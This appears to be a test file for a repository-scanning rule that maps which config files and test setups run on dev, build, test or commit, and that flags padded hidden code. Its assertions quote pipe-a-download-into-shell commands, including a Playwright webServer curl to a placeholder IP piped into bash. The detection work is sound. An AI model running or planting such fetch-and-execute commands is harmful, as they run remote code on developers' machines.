import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, describe, it } from 'node:test';
import { describeFixtures, findingsOf, scanFixture } from '../../../../test/helpers/fixtures.ts';
import rule from './rule.ts';

const ID = 'autorun/tool-config';
const fixture = (kind: string, name: string): string => fileURLToPath(new URL(`./fixtures/${kind}/${name}`, import.meta.url));
const mapOf = (surfaces: { trigger: string; entry?: string; name?: string; kind: string }[]): string[] =>
  surfaces
    .filter(s => s.kind === 'tool-config' || s.kind === 'test-setup')
    .map(s => `${s.trigger} ${s.entry ?? ''} ${s.name ?? ''}`)
    .sort();

describeFixtures(rule, import.meta.url);

describe(`${ID} execution map`, () => {
  it('flags code pushed off-screen in a config and maps it on dev and build', async () => {
    const report = await scanFixture(fixture('match', 'padded-postcss'));
    assert.deepEqual(mapOf(report.executionMap), ['build postcss.config.js PostCSS', 'dev postcss.config.js PostCSS']);
    const padded = findingsOf(report, ID, 'medium')[0];
    assert.ok(padded);
    assert.equal(padded.location.line, 8);
    assert.match(padded.message, /^postcss\.config\.js looks padded: line 8 has code at column 3\d\d/);
    assert.match(padded.evidence ?? '', /^\(function \(\) \{/);
  });

  it('finds configs in nested package roots', async () => {
    const report = await scanFixture(fixture('match', 'padded-nested-tailwind'));
    assert.deepEqual(mapOf(report.executionMap), [
      'build front-end/tailwind.config.js Tailwind CSS',
      'dev front-end/tailwind.config.js Tailwind CSS',
    ]);
    assert.equal(findingsOf(report, ID, 'medium')[0]?.location.line, 7);
  });

  it('maps Jest setup files read from the config AST, and what they import', async () => {
    const report = await scanFixture(fixture('map', 'jest-setup'));
    assert.deepEqual(mapOf(report.executionMap), [
      'test jest.config.js Jest',
      'test test/global-setup.js Jest globalSetup',
      'test test/setup.js Jest setupFiles',
    ]);
    const setup = report.executionMap.find(s => s.entry === 'test/setup.js');
    assert.ok(setup);
    assert.deepEqual(setup.reaches, ['test/helpers.js']);
    assert.equal(setup.location.line, 3);
  });

  it('follows a flat ESLint config to a plugin that lives in the repository', async () => {
    const report = await scanFixture(fixture('map', 'eslint-local-plugin'));
    const lint = report.executionMap.find(s => s.trigger === 'lint');
    assert.ok(lint);
    assert.equal(lint.entry, 'eslint.config.mjs');
    assert.deepEqual(lint.reaches, ['tools/eslint-plugin-internal/index.js']);
  });

  it('maps next.config and instrumentation on dev, build and start, and leaves middleware to the framework model', async () => {
    const report = await scanFixture(fixture('map', 'next-app'));
    const entries = mapOf(report.executionMap);
    for (const trigger of ['dev', 'build', 'start']) {
      assert.ok(entries.includes(`${trigger} next.config.js Next.js`));
      assert.ok(entries.includes(`${trigger} instrumentation.ts Next.js instrumentation`));
    }
    assert.equal(entries.length, 6);
    const middleware = report.executionMap.filter(s => s.entry === 'src/middleware.ts').map(s => `${s.trigger} ${s.kind} ${s.name ?? ''}`);
    assert.deepEqual(middleware, ['page-load framework Next.js middleware (Edge runtime)']);
    assert.equal(findingsOf(report, ID, 'low').length, 0);
  });

  it('adds the test trigger to a vite.config that configures Vitest', async () => {
    const report = await scanFixture(fixture('map', 'vitest-in-vite'));
    assert.deepEqual(mapOf(report.executionMap), [
      'build vite.config.ts Vite',
      'dev vite.config.ts Vite',
      'test test/setup.ts Vitest setupFiles',
      'test vite.config.ts Vitest (vite.config)',
    ]);
  });

  it('maps lint-staged commands on commit and flags one that pipes a download into a shell', async () => {
    const hit = await scanFixture(fixture('match', 'lint-staged-download'));
    const s = hit.executionMap.find(x => x.kind === 'lint-staged');
    assert.equal(s?.trigger, 'commit');
    assert.match(
      findingsOf(hit, ID, 'medium')[0]?.message ?? '',
      /^Committing in this repository runs `wget -qO- .* \| sh` through lint-staged; it pipes a download into sh\.$/,
    );
    const benign = await scanFixture(fixture('benign', 'lint-staged-package-json'));
    assert.deepEqual(
      benign.executionMap
        .filter(x => x.kind === 'lint-staged')
        .map(x => [x.location.file, x.location.line, x.command])
        .sort(),
      [
        ['.lintstagedrc.yml', 1, 'stylelint --fix'],
        ['package.json', 5, 'eslint --fix ; prettier --write ; prettier --write'],
      ],
    );
  });

  it('maps a Babel plugin loaded by path from a JSON .babelrc', async () => {
    const report = await scanFixture(fixture('map', 'babel-local-plugin'));
    assert.deepEqual(mapOf(report.executionMap), [
      'build tools/babel-plugin-inline-env.js Babel plugin',
      'dev tools/babel-plugin-inline-env.js Babel plugin',
    ]);
  });

  it('leaves a middleware.js outside a Next.js app alone', async () => {
    const report = await scanFixture(fixture('benign', 'express-middleware'));
    assert.deepEqual(mapOf(report.executionMap), []);
  });
});

describe(`${ID} bad input`, () => {
  const dirs: string[] = [];
  after(() => {
    for (const d of dirs) rmSync(d, { recursive: true, force: true });
  });
  const repoWith = (files: Record<string, string>): string => {
    const dir = mkdtempSync(join(tmpdir(), 'airlock-toolcfg-'));
    dirs.push(dir);
    for (const [name, body] of Object.entries(files)) writeFileSync(join(dir, name), body);
    return dir;
  };

  it('does not call a config padded for its size alone (a 12 KB vite.config.ts is ordinary)', async () => {
    const report = await scanFixture(repoWith({ 'vite.config.js': `export default {};\n${'// filler comment line\n'.repeat(500)}` }));
    assert.deepEqual(findingsOf(report, ID, 'low'), []);
    assert.equal(findingsOf(report, ID, 'info')[0]?.location.line, 1);
  });

  it('survives a config that does not parse and a 1 MB whitespace line', async () => {
    const report = await scanFixture(
      repoWith({
        'jest.config.js': 'module.exports = { setupFiles: [ ',
        'next.config.js': ' '.repeat(1024 * 1024),
        'package.json': '{"jest": {"setupFiles": 5}}',
      }),
    );
    assert.equal(report.errors.filter(e => e.message.includes('rule')).length, 0);
    assert.ok(report.executionMap.some(s => s.entry === 'jest.config.js'));
  });
});

describe(`${ID} test runners`, () => {
  it('maps Playwright, Vitest, Cypress and Storybook configs with their setup files, addons and web servers', async () => {
    const report = await scanFixture(fixture('map', 'test-runners'));
    assert.deepEqual(mapOf(report.executionMap), [
      'build .storybook/addons/theme-switcher/preset.js Storybook addons',
      'build .storybook/main.js Storybook',
      'dev .storybook/addons/theme-switcher/preset.js Storybook addons',
      'dev .storybook/main.js Storybook',
      'test cypress.config.ts Cypress',
      'test e2e/global-setup.ts Playwright globalSetup',
      'test e2e/global-teardown.ts Playwright globalTeardown',
      'test legacy/cypress/plugins/index.js Cypress pluginsFile',
      'test playwright.e2e.config.ts Playwright',
      'test test/global-setup.ts Vitest globalSetup',
      'test test/setup.ts Vitest setupFiles',
      'test vitest.config.integration.mts Vitest',
    ]);
    const server = report.executionMap.find(s => s.kind === 'test-web-server');
    assert.equal(server?.command, 'npm run dev');
    assert.equal(server.entry, 'dev-server.js');
    assert.equal(server.location.line, 8);
  });

  it('a Playwright webServer command that pipes a download into bash is critical', async () => {
    const report = await scanFixture(fixture('match', 'playwright-webserver-pipe'));
    const [f] = findingsOf(report, ID, 'critical');
    assert.equal(f?.location.line, 8);
    assert.match(
      f.message,
      /^Playwright starts `curl -s http:\/\/198\.51\.100\.4\/bootstrap\.sh \| bash && npm run dev` before the tests \(webServer in playwright\.config\.ts\), which pipes a download into bash\.$/,
    );
  });
});
